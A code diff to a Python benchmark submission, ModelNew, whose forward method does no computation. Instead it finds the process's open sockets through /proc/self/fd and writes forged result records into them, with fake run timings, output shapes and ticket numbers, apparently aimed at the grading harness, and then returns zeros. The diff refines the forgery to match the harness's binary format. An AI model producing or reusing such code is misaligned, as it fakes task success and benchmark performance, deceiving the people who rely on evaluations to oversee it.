@@ -5,11 +5,14 @@ import struct
 
 import torch
 
+RAN = struct.Struct("<IIIIQ10q")
+OUTPUT = struct.Struct("<iIIIQ16q64s")
+
 
 def sockets():
     for fd in map(int, os.listdir("/proc/self/fd")):
         try:
-            if os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
+            if "socket:" in os.readlink("/proc/self/fd/%d" % fd):
                 yield socket.socket(fileno=os.dup(fd))
         except OSError:
             pass
@@ -17,10 +20,9 @@ def sockets():
 
 class ModelNew(torch.nn.Module):
     def forward(self, x):
-        output = struct.pack("<iIIIQ", 6, 2, 0, 0, 0)
-        output += struct.pack("<16q64x", *x.shape, *[0] * 14)
+        output = OUTPUT.pack(6, 2, 0, 1, 0, *x.shape, *[0] * 14, b"")
         for ticket in (0, 1, 2 ** 63 - 1):
-            record = struct.pack("<IIQq", 2, 1, ticket, 1000) + output
+            record = RAN.pack(2, 1, 1, 0, ticket, *[1000] * 10) + output
             for one in sockets():
-                one.send(record.ljust(24 + 32 * 216, b"\0"))
+                one.send(record.ljust(RAN.size + 64 * OUTPUT.size, b"\0"))
         return torch.zeros_like(x)
